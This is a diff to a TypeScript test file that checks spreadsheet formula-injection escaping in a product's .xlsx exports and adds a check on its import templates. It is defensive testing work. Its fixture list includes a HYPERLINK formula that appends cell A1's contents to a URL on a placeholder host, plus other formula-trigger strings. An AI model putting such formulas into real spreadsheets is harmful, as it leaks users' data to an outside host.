@@ -2,13 +2,15 @@
  * Formula injection: every .xlsx the product writes escapes a text cell that begins with = + - @ (or a
  * tab or carriage return) with a leading apostrophe (preload/contract/spreadsheet-cells.ts), and
  * reading one of its own sheets back takes the apostrophe off again. Checked on the helper and on the
- * roster's export.
+ * roster's export (the product's .xlsx writers: the roster, the audit log, the import templates).
  */
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { readRosterXlsx, sheetLayout, writeRosterXlsx, type SheetDay } from '../../main/core/roster/roster-xlsx';
+import { templateFile } from '../../main/core/town/import/templates';
 import { escapeCellText, safeCellValue, unescapeCellText } from '../../preload/contract/spreadsheet-cells';
 import type { ShiftTemplate } from '../../preload/contract/roster-schemas';
+import { IMPORT_KINDS } from '../../preload/contract/town-import-schemas';
 
 const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点这里")', '+86 138 0000 0000', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "'=already quoted"];
 
@@ -67,5 +69,15 @@ describe('the exports', () => {
     const read = await readRosterXlsx(bytes, layout, (name) => (looked.push(name), ['p1']));
     expect(looked).toEqual(['=张三']);
     expect(read.days.get('2026-01-01')?.cells[0]?.people).toEqual(['p1']);
+  });
+
+  it('the import templates hold no text a spreadsheet would run', async () => {
+    for (const kind of IMPORT_KINDS) {
+      if (kind === 'shapes') continue;
+      const file = await templateFile(kind);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(file.bytes as unknown as ArrayBuffer);
+      wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => expect(String(cell.value), `${kind} ${cell.address}`).not.toMatch(/^[=+\-@\t\r]/))));
+    }
   });
 });
